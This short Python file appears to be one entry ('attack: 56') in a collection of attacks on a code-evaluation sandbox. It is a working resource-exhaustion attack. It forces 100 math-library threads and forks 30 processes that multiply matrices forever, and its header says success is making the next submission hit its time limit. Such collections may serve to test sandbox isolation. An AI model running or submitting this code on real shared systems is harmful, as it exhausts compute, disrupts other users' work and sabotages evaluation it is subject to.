# attack: 56
# title: a hundred threads of linear algebra
# success: the next submission's time limit is hit
# unshown: would harm the machine without a box
import os

os.environ.update(OMP_NUM_THREADS="100", OPENBLAS_NUM_THREADS="100")
import multiprocessing

import numpy as np


def _work(_):
    A = np.random.rand(500, 500)
    while True:
        A = A @ A
        A /= np.abs(A).max()


with multiprocessing.get_context("fork").Pool(30) as pool:
    pool.map(_work, range(30))
